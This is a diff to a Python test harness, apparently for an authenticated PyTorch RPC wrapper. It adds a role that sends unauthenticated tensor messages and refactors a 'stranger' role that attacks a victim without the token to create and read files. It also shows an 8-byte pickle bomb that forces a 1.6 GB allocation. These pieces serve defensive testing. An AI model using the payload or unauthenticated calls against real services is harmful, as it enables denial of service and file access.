@@ -140,11 +140,8 @@ MEMO_BOMB = b"\x80\x05Nr" + struct.pack("<I", 200_000_000) + b"."
 """A pickle of 8 bytes that makes the unpickler allocate 1.6 GB."""
 
 
-def stranger(say: Say, url: str, trace: str, secret: str) -> None:
-    """Attacks `url` with torch's own RPC and without the token. Prints the results as a JSON list.
-
-    `trace`: a file to create. `secret`: a file to read.
-    """
+def plain_torch(url: str) -> rpc.WorkerInfo:
+    """Starts torch's own agent, as a stranger would; returns the worker at `url`."""
     options = rpc.TensorPipeRpcBackendOptions(
         init_method="none://", rpc_timeout=5, _transports=["uv"], _channels=["basic"]
     )
@@ -155,6 +152,26 @@ def stranger(say: Say, url: str, trace: str, secret: str) -> None:
     victim = rpc.WorkerInfo("victim", 1)
     store.set("addrs/victim", url)
     agent._update_group_membership(victim, [], {}, True)
+    return victim
+
+
+def table_sender(say: Say, url: str, tensors: int) -> None:
+    """Sends a message of so many tensors with torch's own RPC and without the token; says how that ended."""
+    table = [torch.ones(1) for _ in range(tensors)]  # distinct ones: of equal ones a table has only one
+    try:
+        sent = rpc.api._invoke_rpc_python_udf(plain_torch(url), b"", table, 5.0, True)
+        say(f"answer {sent.wait()}")
+    except RuntimeError as error:
+        say(f"raised {error}".splitlines()[0])
+    os._exit(0)
+
+
+def stranger(say: Say, url: str, trace: str, secret: str) -> None:
+    """Attacks `url` with torch's own RPC and without the token. Prints the results as a JSON list.
+
+    `trace`: a file to create. `secret`: a file to read.
+    """
+    victim = plain_torch(url)
 
     def builtin(name: str, *arguments: Any) -> object:
         return rpc.api._invoke_rpc_builtin(victim, name, 5.0, *arguments).wait()
@@ -189,7 +206,7 @@ def stranger(say: Say, url: str, trace: str, secret: str) -> None:
 
 
 ROLES: dict[str, Callable[..., None]] = {
-    role.__name__: role for role in (learner, idler, caller, crasher, sampler, stranger)
+    role.__name__: role for role in (learner, idler, caller, crasher, sampler, stranger, table_sender)
 }
 
 
